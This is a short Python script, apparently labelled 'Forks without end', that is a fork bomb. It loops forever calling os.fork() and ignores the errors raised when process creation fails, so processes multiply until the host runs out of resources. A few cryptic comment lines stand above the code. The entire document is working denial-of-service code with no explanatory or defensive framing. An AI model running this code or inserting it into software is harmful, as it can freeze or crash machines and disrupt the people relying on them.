# Forks without end.
# note: processes|ended|in time
# %% end
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
